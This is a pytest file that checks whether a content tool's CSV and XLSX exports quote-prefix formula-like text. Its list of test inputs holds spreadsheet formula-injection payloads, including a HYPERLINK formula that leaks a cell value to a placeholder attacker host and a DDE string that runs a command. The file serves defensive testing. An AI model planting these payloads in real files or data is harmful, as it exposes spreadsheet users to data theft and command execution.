"""Hardening 2, item 11: formula-like text never reaches a CSV or XLSX file as a formula."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
import pytest
from typer.testing import CliRunner

from abmcontent.cli import app
from abmcontent.pptx_engine.charts import workbook_bytes
from abmcontent.spreadsheet_cells import csv_cell

ATTACKS = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_a_formula_like_cell_gets_a_quote_in_csv(text: str) -> None:
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Hokuto Logistics", "a=b", "", 12, -2.5, None])
def test_other_cells_and_numbers_are_unchanged(value: object) -> None:
    assert csv_cell(value) == value


def test_score_csv_keeps_a_hostile_account_name_as_text(
    workspace: Path, runner: CliRunner, tmp_path: Path
) -> None:
    profile = workspace / "account_profiles" / "hokuto-logistics.yaml"
    text = profile.read_text(encoding="utf-8")
    start = text.index("\nname:")
    end = text.index("\n", start + 1)
    hostile = ATTACKS[0]
    escaped = hostile.replace('"', '\\"')
    profile.write_text(f'{text[:start]}\nname: "{escaped}"{text[end:]}', encoding="utf-8")
    out = tmp_path / "scores.csv"
    done = runner.invoke(
        app, ["score", "--date", "2026-11-25", "-w", str(workspace), "--output", str(out)]
    )
    assert done.exit_code == 0, done.output
    rows = {row["account"]: row for row in csv.DictReader(io.StringIO(out.read_text("utf-8")))}
    assert rows["hokuto-logistics"]["name"] == "'" + hostile
    assert not any(
        value.startswith(("=", "+", "@")) for row in rows.values() for value in row.values()
    )


def test_chart_workbook_cells_keep_formula_like_text_as_quoted_text(tmp_path: Path) -> None:
    categories = [*ATTACKS, "Plain"]
    data = workbook_bytes(categories, [("=SUM(1)", list(range(len(categories))))])
    path = tmp_path / "chart.xlsx"
    path.write_bytes(data)
    sheet = openpyxl.load_workbook(path).active
    assert sheet is not None
    header = sheet["B1"]
    assert header.value == "=SUM(1)" and header.data_type == "s" and header.quotePrefix
    for row, text in enumerate(categories, start=2):
        cell = sheet[f"A{row}"]
        assert cell.value == text.replace("\r", "\n") or cell.value == text
        assert cell.data_type == "s"  # a string, never a formula
        assert bool(cell.quotePrefix) == (text != "Plain"), text
        assert sheet[f"B{row}"].value == row - 2  # numbers stay numbers
